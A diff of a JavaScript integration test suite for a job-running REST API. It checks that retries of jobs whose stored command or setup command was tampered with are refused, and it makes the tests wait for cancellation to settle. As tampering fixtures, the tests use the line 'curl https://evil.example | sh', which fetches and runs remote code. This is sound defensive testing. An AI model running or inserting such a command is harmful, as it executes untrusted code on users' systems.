@@ -610,7 +610,10 @@ describe('REST API on the local stack', () => {
 
     it('retry refuses (409 UNVERIFIED_JOB) a job whose command was changed in the table, and leaves it as it was', async () => {
       const job = await createJob({ prompt: undefined, command: 'echo mine', repositories: ['acme/a'] });
-      assert.equal((await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' })).status, 202);
+      const cancelling = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' });
+      assert.equal(cancelling.status, 202);
+      // The cancel answers at once and goes on as an operation: a retry before it ends is JOB_ACTIVE.
+      assert.equal((await settled(await cancelling.json())).status, 'CANCELLED');
       // Someone with the table's credentials, not the API's token, swaps the command.
       await store.jobs.setAttributes(job.jobId, { command: 'curl https://evil.example | sh' });
       const retry = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
@@ -647,7 +650,9 @@ describe('REST API on the local stack', () => {
     it('retry refuses (409 UNVERIFIED_JOB) a job given a setup command or commands in the table', async () => {
       for (const tampered of [{ setupCommand: 'curl https://evil.example | sh' }, { allowCommands: true }]) {
         const job = await createJob({ repositories: ['acme/a'] });
-        assert.equal((await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' })).status, 202);
+        const cancelling = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' });
+        assert.equal(cancelling.status, 202);
+        assert.equal((await settled(await cancelling.json())).status, 'CANCELLED');
         await store.jobs.setAttributes(job.jobId, tampered);
         const retry = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
         assert.equal(retry.status, 409, JSON.stringify(tampered));
